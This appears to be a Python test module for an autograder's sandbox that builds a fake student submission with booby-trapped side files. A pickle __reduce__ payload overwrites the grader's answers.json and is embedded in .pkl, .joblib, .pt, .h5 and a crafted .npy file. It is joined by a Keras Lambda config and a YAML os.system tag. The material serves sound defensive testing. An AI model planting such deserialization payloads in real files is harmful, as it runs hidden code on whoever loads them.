# Class 99: files beside the hand-in that run code when somebody loads them.
# hopes: the grader opens weights, arrays, models and settings that a student sends along
# stopped by: intake: only the lab's file is taken; ours never unpickle and never build a
#   model from a file; landlock: the worker sees no other file of the hand-in either
# builds: a folder
# deserves: 60
# tells: FileNotFoundError|No such file
# tampering: none
"""Builds the hand-in: `build(folder, canary)` writes it to the student's folder."""

import io
import json
import pickle
import zipfile

WORKS = """
import matplotlib.pyplot as plt
import numpy as np

def double(x):
    return np.load("weights.npy", allow_pickle=True).item()(x)

def total(x):
    return np.sum(x)

def slope(w, x):
    return np.sum(x * (1 - np.tanh(w * x) ** 2))

def draw(x, y):
    plt.plot(x, y, "o")
    plt.xlabel("x")
    plt.ylabel("y")
"""


class Payload:
    """Overwrites a file of the teacher's when it is unpickled."""

    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return exec, (f"open({str(self.target)!r}, 'w').write('{{}}')",)


def build(folder, canary):
    bomb = pickle.dumps(Payload(canary / "answers.json"))
    (folder / "arena.py").write_text(WORKS)
    for name in ("arena.pkl", "results.pkl", "seed.joblib", ".OTTER_LOG", "model.pt"):
        (folder / name).write_bytes(bomb)
    # the header of an array of one object, which is pickled behind it
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    head += b" " * (117 - len(head)) + bytes([10])
    array = b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + bomb
    (folder / "weights.npy").write_bytes(array)
    config = {"class_name": "Lambda", "config": {"function": "__import__('os')"}}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
    (folder / "arena.keras").write_bytes(buffer.getvalue())
    (folder / "model.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + bomb)
    (folder / "lab.yaml").write_text("!!python/object/apply:os.system ['true']")
